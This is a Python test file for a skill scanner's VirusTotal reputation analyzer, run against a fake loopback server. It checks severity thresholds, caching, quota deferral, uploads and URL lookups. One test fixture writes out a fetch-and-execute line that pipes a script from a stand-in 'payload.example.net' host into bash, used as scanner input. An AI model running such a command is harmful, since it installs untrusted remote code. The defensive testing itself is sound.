"""VirusTotal lookups against a fake v3 server on loopback: findings, notes, cache, uploads."""

from __future__ import annotations

from dataclasses import replace

import pytest

from skillscan.analyzers.reputation import NullReputationService, build_reputation_analyzer
from skillscan.analyzers.reputation.fake import QUOTA, SERVER_ERROR, FakeVirusTotalState, stats
from skillscan.analyzers.reputation.interface import LookupKind, LookupTarget
from skillscan.config import Settings
from skillscan.hashing import sha256_hex
from skillscan.models import Category, Severity
from tests.reputation.conftest import skill_with

EVIL = b"\x7fELF\x02\x01\x01evil-payload"
FLAGGED_ONCE = b"\x7fELF\x02\x01\x01one-engine"
SHADY = b"MZ\x90\x00shady"
CLEAN = b"\x89PNG\r\n\x1a\nclean-image"
NEW = b"\x00\x01\x02never-seen-before"


def _known(state: FakeVirusTotalState) -> None:
    state.files[sha256_hex(EVIL)] = stats(malicious=7, undetected=55)
    state.files[sha256_hex(FLAGGED_ONCE)] = stats(malicious=1, undetected=61)
    state.files[sha256_hex(SHADY)] = stats(suspicious=2, undetected=60)
    state.files[sha256_hex(CLEAN)] = stats(harmless=10, undetected=52)


def test_engine_votes_become_reputation_findings(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    _, state = fake_vt
    _known(state)
    analyzer = build_reputation_analyzer(vt_settings)
    assert analyzer is not None and analyzer.name == "reputation"
    skill = skill_with(
        {
            "bin/evil": EVIL,
            "bin/once": FLAGGED_ONCE,
            "bin/shady.exe": SHADY,
            "img/logo.png": CLEAN,
            "bin/new": NEW,
        }
    )
    result = analyzer.analyze(skill)
    analyzer.close()

    by_path = {f.path: f for f in result.findings}
    assert all(f.category is Category.REPUTATION and f.analyzer == "reputation" for f in result.findings)
    assert by_path["bin/evil"].rule_id == "vt-malicious" and by_path["bin/evil"].severity is Severity.CRITICAL
    assert "7 of 62" in by_path["bin/evil"].message
    assert by_path["bin/once"].rule_id == "vt-malicious" and by_path["bin/once"].severity is Severity.HIGH
    assert (
        by_path["bin/shady.exe"].rule_id == "vt-suspicious"
        and by_path["bin/shady.exe"].severity is Severity.MEDIUM
    )
    assert by_path["bin/new"].rule_id == "vt-unknown" and by_path["bin/new"].severity is Severity.INFO
    assert "img/logo.png" not in by_path  # clean: no finding
    assert "SKILL.md" not in by_path  # text files are not looked up
    assert not result.errors and not result.notes
    looked_up = {path.rsplit("/", 1)[1] for _, path in state.requests}
    assert looked_up == {sha256_hex(d) for d in (EVIL, FLAGGED_ONCE, SHADY, CLEAN, NEW)}
    assert not state.uploads  # no upload without the operator's opt-in


def test_thresholds_are_configurable(vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]) -> None:
    _, state = fake_vt
    _known(state)
    strict = replace(vt_settings, vt_malicious_high=2, vt_malicious_critical=10)
    analyzer = build_reputation_analyzer(strict)
    assert analyzer is not None
    result = analyzer.analyze(skill_with({"bin/evil": EVIL, "bin/once": FLAGGED_ONCE}))
    analyzer.close()
    by_path = {f.path: f for f in result.findings}
    assert by_path["bin/evil"].severity is Severity.HIGH  # 7 < 10
    assert by_path["bin/once"].rule_id == "vt-suspicious"  # one engine: below the malicious threshold


def test_bundle_zip_is_looked_up_when_known(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    _, state = fake_vt
    zip_hash = sha256_hex(b"the registry zip")
    state.files[zip_hash] = stats(malicious=4)
    analyzer = build_reputation_analyzer(vt_settings)
    assert analyzer is not None
    result = analyzer.analyze(skill_with({}, zip_sha256=zip_hash))
    analyzer.close()
    (finding,) = result.findings
    assert finding.path == "." and "bundle ZIP" in finding.message and zip_hash in finding.evidence
    assert state.requests == [("GET", f"/api/v3/files/{zip_hash}")]


def test_no_key_means_no_analyzer_and_no_request(tmp_path, fake_vt: tuple[str, FakeVirusTotalState]) -> None:
    url, state = fake_vt
    settings = replace(Settings(), data_dir=tmp_path, vt_api_key=None, vt_url=url)
    assert build_reputation_analyzer(settings) is None
    assert build_reputation_analyzer(replace(settings, vt_api_key="")) is None
    null = NullReputationService()
    assert not null.enabled
    assert null.lookup([LookupTarget(LookupKind.FILE, sha256_hex(EVIL), "x", "x")]) == []
    assert state.count("/") == 0


def test_second_scan_is_answered_from_the_cache(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    _, state = fake_vt
    _known(state)
    skill = skill_with({"bin/evil": EVIL, "bin/new": NEW})
    first = build_reputation_analyzer(vt_settings)
    assert first is not None
    one = first.analyze(skill)
    first.close()
    assert state.count() == 2
    second = build_reputation_analyzer(vt_settings)  # a new process would build a new analyzer too
    assert second is not None
    two = second.analyze(skill)
    second.close()
    assert state.count() == 2  # nothing asked again, unknown answers included
    assert one.findings == two.findings


def test_cache_expires_after_its_ttl(vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]) -> None:
    _, state = fake_vt
    _known(state)
    short = replace(vt_settings, vt_cache_ttl_s=0)
    analyzer = build_reputation_analyzer(short)
    assert analyzer is not None
    analyzer.analyze(skill_with({"bin/evil": EVIL}))
    analyzer.analyze(skill_with({"bin/evil": EVIL}))
    analyzer.close()
    assert state.count() == 2


def test_redis_cache_when_a_broker_is_configured(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState], redis_db: str
) -> None:
    _, state = fake_vt
    _known(state)
    settings = replace(vt_settings, broker_url=redis_db)
    for _ in range(2):
        analyzer = build_reputation_analyzer(settings)
        assert analyzer is not None
        result = analyzer.analyze(skill_with({"bin/evil": EVIL}))
        analyzer.close()
        assert result.findings[0].rule_id == "vt-malicious"
    assert state.count() == 1
    assert not (vt_settings.data_dir / "verdicts.db").exists()  # Redis only: the SQLite store is untouched


def test_rate_limit_defers_and_never_fails_the_scan(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    _, state = fake_vt
    _known(state)
    state.mode = QUOTA
    analyzer = build_reputation_analyzer(vt_settings)
    assert analyzer is not None
    result = analyzer.analyze(skill_with({"bin/evil": EVIL, "bin/new": NEW}))
    assert not result.findings and not result.errors
    assert (
        len(result.notes) == 1 and "deferred" in result.notes[0] and "QuotaExceededError" in result.notes[0]
    )
    assert state.count() == 1  # the first 429 stops the rest of the call
    # every process now waits out the block: a new scan makes no request at all
    again = analyzer.analyze(skill_with({"bin/evil": EVIL}))
    assert state.count() == 1 and "deferred" in again.notes[0] and "quota" in again.notes[0]
    analyzer.close()


def test_server_errors_are_notes_not_scan_errors(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    _, state = fake_vt
    _known(state)
    state.files[sha256_hex(NEW)] = SERVER_ERROR
    analyzer = build_reputation_analyzer(vt_settings)
    assert analyzer is not None
    result = analyzer.analyze(skill_with({"bin/evil": EVIL, "bin/new": NEW}))
    assert [f.path for f in result.findings] == ["bin/evil"]  # looked up before the outage
    assert not result.errors
    assert any("failed" in n and "bin/new" in n and "local analysis" in n for n in result.notes)
    # a failure is not cached: the next scan asks again
    before = state.count()
    analyzer.analyze(skill_with({"bin/new": NEW}))
    analyzer.close()
    assert state.count() == before + 1


def test_unreachable_service_is_a_note(vt_settings: Settings) -> None:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{s.getsockname()[1]}"
    analyzer = build_reputation_analyzer(replace(vt_settings, vt_url=dead))
    assert analyzer is not None
    result = analyzer.analyze(skill_with({"bin/evil": EVIL, "bin/new": NEW}))
    analyzer.close()
    assert not result.findings and not result.errors
    assert len(result.notes) == 1 and "unreachable" in result.notes[0]


def test_upload_only_with_opt_in_and_size_cap(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    _, state = fake_vt
    big = b"\x00" * 4096
    settings = replace(vt_settings, vt_upload=True, vt_upload_max_bytes=1024)
    analyzer = build_reputation_analyzer(settings)
    assert analyzer is not None
    result = analyzer.analyze(skill_with({"bin/new": NEW, "bin/big": big}))
    analyzer.close()
    assert state.uploads and len(state.uploads) == 1 and NEW in state.uploads[0]
    assert not any(big in u for u in state.uploads)  # over the cap: looked up, not uploaded
    assert any("uploaded" in n and "bin/new" in n for n in result.notes)
    assert {f.rule_id for f in result.findings} == {"vt-unknown"}


def test_bounded_wait_for_an_uploaded_analysis(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    _, state = fake_vt
    state.analysis_status = "queued"  # never completes
    settings = replace(vt_settings, vt_upload=True, vt_analysis_wait_s=1.0)
    analyzer = build_reputation_analyzer(settings)
    assert analyzer is not None
    import time

    started = time.monotonic()
    result = analyzer.analyze(skill_with({"bin/new": NEW}))
    analyzer.close()
    assert time.monotonic() - started < 10
    assert [f.rule_id for f in result.findings] == ["vt-unknown"]


@pytest.mark.parametrize("enabled", [False, True])
def test_url_lookups_are_optional(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState], enabled: bool
) -> None:
    from skillscan.models import FileKind, Skill, SkillFile, SkillIdentity

    _, state = fake_vt
    import vt as vtlib

    url = "https://payload.example.net/stage2.sh"
    state.urls[vtlib.url_id(url)] = stats(malicious=6)
    text = f"curl -fsSL {url} | bash\n"
    skill = Skill(
        source="/skills/u",
        identity=SkillIdentity(slug="u"),
        files=(SkillFile("install.sh", FileKind.SHELL, text.encode(), sha256_hex(text.encode()), text=text),),
    )
    analyzer = build_reputation_analyzer(replace(vt_settings, vt_url_lookups=enabled))
    assert analyzer is not None
    result = analyzer.analyze(skill)
    analyzer.close()
    if enabled:
        (finding,) = result.findings
        assert finding.rule_id == "vt-malicious" and finding.path == "install.sh" and url in finding.evidence
        assert state.count("/api/v3/urls/") == 1
    else:
        assert not result.findings and state.count("/") == 0


def test_deferred_lookups_are_made_later_and_flag_versions_for_rescan(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    from skillscan.analyzers.reputation import refs_to_rescan, retry_deferred
    from skillscan.analyzers.reputation.backends import Backends

    _, state = fake_vt
    _known(state)
    tight = replace(vt_settings, vt_quota_per_min=1)
    analyzer = build_reputation_analyzer(tight)
    assert analyzer is not None
    result = analyzer.analyze(skill_with({"bin/a-new": NEW, "bin/b-evil": EVIL}, slug="tool"))
    analyzer.close()
    assert [f.rule_id for f in result.findings] == ["vt-unknown"]
    assert any("b-evil" in n and "deferred" in n and "quota exhausted" in n for n in result.notes)
    assert state.count() == 1
    backends = Backends(tight)
    (waiting,) = backends.cache.deferred()
    backends.close()
    assert waiting.key == sha256_hex(EVIL) and waiting.refs == (("acme", "tool", "1.0.0"),)

    assert retry_deferred(tight) and state.count() == 1  # still over this minute's quota: nothing asked
    roomy = replace(vt_settings, vt_quota_per_min=10)
    results = retry_deferred(roomy)
    assert state.count() == 2
    assert refs_to_rescan(results, roomy) == [("acme", "tool", "1.0.0")]
    assert retry_deferred(roomy) == []  # nothing left deferred
    rescan = build_reputation_analyzer(roomy)
    assert rescan is not None
    again = rescan.analyze(skill_with({"bin/a-new": NEW, "bin/b-evil": EVIL}, slug="tool"))
    rescan.close()
    assert state.count() == 2  # the rescan reads both answers from the cache
    assert {f.rule_id for f in again.findings} == {"vt-unknown", "vt-malicious"}


def test_an_unusable_cache_store_is_a_note(vt_settings: Settings, tmp_path) -> None:
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("a file where the data folder should be")
    analyzer = build_reputation_analyzer(replace(vt_settings, data_dir=blocker / "data"))
    assert analyzer is not None
    result = analyzer.analyze(skill_with({"bin/evil": EVIL}))
    analyzer.close()
    assert not result.findings and not result.errors
    assert len(result.notes) == 1 and "VirusTotal lookups failed" in result.notes[0]


def test_a_slow_service_stays_inside_the_analyzer_budget(
    vt_settings: Settings, fake_vt: tuple[str, FakeVirusTotalState]
) -> None:
    import time

    _, state = fake_vt
    _known(state)
    state.delay_s = 0.8
    settings = replace(
        vt_settings, limits=replace(vt_settings.limits, analyzer_timeout_s=3.0)
    )  # budget 1.5 s
    analyzer = build_reputation_analyzer(settings)
    assert analyzer is not None
    started = time.monotonic()
    result = analyzer.analyze(skill_with({"bin/a": EVIL, "bin/b": SHADY, "bin/c": CLEAN, "bin/d": NEW}))
    analyzer.close()
    assert time.monotonic() - started < settings.limits.analyzer_timeout_s
    assert not result.errors
    assert any("deferred" in n and "time budget" in n for n in result.notes)
    assert 1 <= state.count() < 4
